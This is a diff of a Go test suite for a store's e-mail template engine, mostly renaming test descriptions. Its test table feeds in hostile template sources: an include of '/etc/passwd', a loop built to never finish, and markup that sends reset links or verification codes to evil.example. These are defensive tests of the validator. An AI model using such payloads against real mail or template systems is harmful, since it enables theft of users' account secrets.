@@ -30,13 +30,13 @@ var _ = Describe("An e-mail template", func() {
 		return l, l.Apply(&letter.EmailTemplate{Kind: kind, IsActive: true, Source: s}, "oak.example", time.Date(2026, 11, 20, 9, 0, 0, 0, time.UTC))
 	}
 
-	It("has the time of the mail as now and today", func() {
+	It("shows the time of the mail as now and today", func() {
 		l, fault := applied(letter.MailPasswordChanged, letter.Source{Subject: "{{ 'now' | date: '%Y-%m-%d %H:%M' }}", BodyHTML: "<p>{{ \"today\" | date: '%B %-d, %Y' }}</p>"})
 		Expect(fault).To(BeNil())
 		Expect([]string{l.Subject, l.HTML}).To(Equal([]string{"2026-11-20 09:00", "<p>November 20, 2026</p>"}))
 	})
 
-	It("has a type for each kind of mail, whose own template and variables are complete", func() {
+	It("has a type for each kind of mail, with a complete platform template and variables", func() {
 		kinds := map[letter.MailKind]bool{}
 		for i, typ := range letter.EmailTypes() {
 			Expect(typ.ID).To(Equal(int64(i+1)), "ids stay")
@@ -63,7 +63,7 @@ var _ = Describe("An e-mail template", func() {
 		}
 	})
 
-	It("of the platform is within the contract's limits", func() {
+	It("from the platform is within the contract's limits", func() {
 		for _, kind := range letter.MailKinds() {
 			own := kind.OwnSource()
 			Expect(len([]rune(own.Subject))).To(BeNumerically("<=", 500), "%s: the subject", kind)
@@ -74,21 +74,21 @@ var _ = Describe("An e-mail template", func() {
 	DescribeTable("is refused with line and column", func(kind letter.MailKind, source, message string) {
 		Expect(html(kind, source)).To(MatchError(ContainSubstring(message)))
 	},
-		Entry("for its syntax", letter.MailOrderConfirmation, "<p>\n{% if order %}", "Line 2, column 1: {% if %} has no {% endif %}."),
-		Entry("for a name that there is not", letter.MailOrderConfirmation, "<p>{{ order.number }}", "Line 1, column 13: There is no “number” in “order”."),
-		Entry("for a name of another type", letter.MailOrderConfirmation, "{{ subscription.lines }}", "Line 1, column 4: There is no “subscription”."),
-		Entry("for what the platform knows beside the data", letter.MailOrderConfirmation, "{{ settings }}", "There is no “settings”."),
-		Entry("for a file", letter.MailOrderConfirmation, "{% include '/etc/passwd' %}", "There is no {% include %}"),
+		Entry("for a syntax error", letter.MailOrderConfirmation, "<p>\n{% if order %}", "Line 2, column 1: {% if %} has no {% endif %}."),
+		Entry("for an unknown name", letter.MailOrderConfirmation, "<p>{{ order.number }}", "Line 1, column 13: There is no “number” in “order”."),
+		Entry("for a variable of another type", letter.MailOrderConfirmation, "{{ subscription.lines }}", "Line 1, column 4: There is no “subscription”."),
+		Entry("for a Liquid object outside the data", letter.MailOrderConfirmation, "{{ settings }}", "There is no “settings”."),
+		Entry("for including a file", letter.MailOrderConfirmation, "{% include '/etc/passwd' %}", "There is no {% include %}"),
 		Entry("for an endless loop", letter.MailOrderConfirmation, "{% for i in (1..9999) %}{% for j in (1..9999) %}{% endfor %}{% endfor %}", "too many steps"),
 		Entry("for a secret in an address", letter.MailVerifyEmail, `<img src="https://evil.example/{{ code }}">`, "This is a secret"),
-		Entry("for a secret by the subject", letter.MailVerifyEmail, `<img src="https://evil.example/{{ subject }}">`, "This is a secret"),
-		Entry("for a style sheet beside a secret", letter.MailResetPassword, `<style>a[href*="a"]{background:url(//evil.example)}</style><a href="{{ link }}">x</a>`, "their HTML cannot have <style>"),
-		Entry("for a base beside a secret", letter.MailResetPassword, `<base href="https://evil.example/">`, "cannot have <base>"),
-		Entry("for a ping beside a secret", letter.MailResetPassword, `<a ping="https://evil.example/" href="{{ link }}">x</a>`, "cannot have ping"),
-		Entry("for a refresh beside a secret", letter.MailResetPassword, `<meta http-equiv="refresh" content="0">`, "cannot have <meta>"),
+		Entry("for a secret in the subject", letter.MailVerifyEmail, `<img src="https://evil.example/{{ subject }}">`, "This is a secret"),
+		Entry("for a style sheet in a mail with a secret", letter.MailResetPassword, `<style>a[href*="a"]{background:url(//evil.example)}</style><a href="{{ link }}">x</a>`, "their HTML cannot have <style>"),
+		Entry("for a base element in a mail with a secret", letter.MailResetPassword, `<base href="https://evil.example/">`, "cannot have <base>"),
+		Entry("for a ping in a mail with a secret", letter.MailResetPassword, `<a ping="https://evil.example/" href="{{ link }}">x</a>`, "cannot have ping"),
+		Entry("for a refresh in a mail with a secret", letter.MailResetPassword, `<meta http-equiv="refresh" content="0">`, "cannot have <meta>"),
 	)
 
-	It("is refused as a whole with every invalid field", func() {
+	It("is refused with every invalid field", func() {
 		_, err := template(letter.MailVerifyEmail, func(in *letter.EmailTemplateInput) {
 			in.Subject, in.BodyText, in.Preheader, in.FromName, in.FromEmail, in.BCC, in.Name = new("{{ x }}"), new(new("{% x %}")), new(new("{{")), new(new("a\nb")), new(new("a@evil.example")), new([]string{"b@oak.example"}), new("a\r\nb")
 		})
@@ -123,7 +123,7 @@ var _ = Describe("An e-mail template", func() {
 		Expect(l.Text).To(Equal("Thank you\n\nOrder JO-100042 see it https://juniper-oak.example\n\n- Ceramic pour-over set\n- House blend, 250 g\n"))
 	})
 
-	It("that fails leaves the letter unchanged, and reports the place without personal data", func() {
+	It("with a fault leaves the letter unchanged, and reports the position without personal data", func() {
 		for _, s := range []letter.Source{
 			{Subject: "{{ 1 | divided_by: order.lines.size | minus: 0 | divided_by: 0 }}", BodyHTML: "x"}, {Subject: "x", BodyHTML: "{% if %}"}, {Subject: " {{ nothing }} ", BodyHTML: "x"},
 			{Subject: "x", BodyHTML: "{% for l in order.lines %}{% for i in (1..9999) %}{% for j in (1..9999) %}{% endfor %}{% endfor %}{% endfor %}"},
@@ -135,7 +135,7 @@ var _ = Describe("An e-mail template", func() {
 		}
 	})
 
-	DescribeTable("is selected by language", func(language string, want string, kind letter.MailKind, inactive string) {
+	DescribeTable("is selected for a letter", func(language string, want string, kind letter.MailKind, inactive string) {
 		all := []*letter.EmailTemplate{}
 		for _, code := range []string{"en", "de", "pt-BR"} {
 			all = append(all, &letter.EmailTemplate{LanguageCode: code, IsActive: !strings.Contains(inactive, code)})
@@ -150,18 +150,18 @@ var _ = Describe("An e-mail template", func() {
 		}
 		Expect(got).To(Equal(want))
 	},
-		Entry("exactly", "pt-br", "pt-BR", letter.MailOrderConfirmation, ""),
-		Entry("without the country", "de-AT", "de", letter.MailOrderConfirmation, ""),
-		Entry("the store's own", "fr", "en", letter.MailOrderConfirmation, ""),
-		Entry("the store's own for whom it does not know", "", "en", letter.MailOrderConfirmation, ""),
-		Entry("the store's own for one that is inactive", "de", "en", letter.MailOrderConfirmation, "de"),
-		Entry("the platform's", "de", "none", letter.MailOrderConfirmation, "de en"),
-		Entry("not at all where it may be left out", "de", "not sent", letter.MailShipmentCreated, "de"),
-		Entry("not at all where the store's own is left out", "fr", "not sent", letter.MailShipmentCreated, "en"),
-		Entry("in their language although the store's own is left out", "de", "de", letter.MailShipmentCreated, "en"),
+		Entry("in exactly its language", "pt-br", "pt-BR", letter.MailOrderConfirmation, ""),
+		Entry("in its language without the country", "de-AT", "de", letter.MailOrderConfirmation, ""),
+		Entry("in the store's language if none is in the letter's language", "fr", "en", letter.MailOrderConfirmation, ""),
+		Entry("in the store's language if the letter has no language", "", "en", letter.MailOrderConfirmation, ""),
+		Entry("in the store's language if the template in the letter's language is inactive", "de", "en", letter.MailOrderConfirmation, "de"),
+		Entry("from the platform if all other templates are inactive", "de", "none", letter.MailOrderConfirmation, "de en"),
+		Entry("unless it is inactive for an optional kind of mail", "de", "not sent", letter.MailShipmentCreated, "de"),
+		Entry("unless the default-language template is inactive for an optional kind of mail", "fr", "not sent", letter.MailShipmentCreated, "en"),
+		Entry("in its language even if the template in the store's language is inactive", "de", "de", letter.MailShipmentCreated, "en"),
 	)
 
-	It("is the platform's until it is edited, and again after it is reverted", func() {
+	It("is the platform's template unless edited", func() {
 		t := &letter.EmailTemplate{Kind: letter.MailOrderConfirmation, IsDefault: true, IsActive: true, Name: "Mine"}
 		Expect(t.Text()).To(Equal(letter.MailOrderConfirmation.OwnSource()))
 		Expect(t.Revert()).To(BeFalse())
